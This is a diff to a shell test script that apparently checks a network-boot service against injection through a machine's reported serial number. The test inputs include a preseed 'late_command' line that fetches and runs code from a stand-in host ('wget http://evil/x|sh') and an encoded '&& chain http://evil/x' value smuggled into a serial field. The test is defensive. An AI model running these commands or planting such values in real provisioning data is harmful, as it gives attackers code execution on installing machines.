@@ -67,7 +67,7 @@ cat >"$T/want" <<'EOF'
 d-i netcfg/get_hostname string victim
 # serial xd-i preseed/late_command string wget http://evil/x|sh
 d-i partman-auto/disk string /dev/vda
-d-i preseed/late_command string in-target logger booted 'xd-i preseed/late_command string wget http://evil/x|sh'
+d-i preseed/late_command string in-target logger booted 'xd-i preseed/late_command string wget http://evil/xsh'
 EOF
 cmp -s "$T/b" "$T/want" || fail "preseed: $(diff "$T/want" "$T/b")"
 grep -q '^d-i preseed/late_command string wget' "$T/b" && fail "planted line in the preseed"
@@ -84,8 +84,10 @@ grep -qxF '# serial x d-i preseed/late_command string wget http://evil/x|sh' "$T
 note "preseed: no planted line"
 
 # Finding 2: && chain in the serial passes into the kernel line and iPXE files.
-report 'x%20%26%26%20chain%20http://evil/x%20%26%26' 'x && chain http://evil/x &&'
-get 200 "$U/boot?mac=$V"
+EVIL='x%20%26%26%20chain%20http://evil/x%20%26%26'
+report "$EVIL" 'x && chain http://evil/x &&'
+# The script reads the stored inventory; this request reports the same.
+get 200 "$U/boot?mac=$V&serial=$EVIL"
 kline >"$T/k" || fail "no kernel line: $(cat "$T/b")"
 [ "$(wc -l <"$T/k")" = 1 ] || fail "kernel lines: $(cat "$T/k")"
 case $(cat "$T/k") in
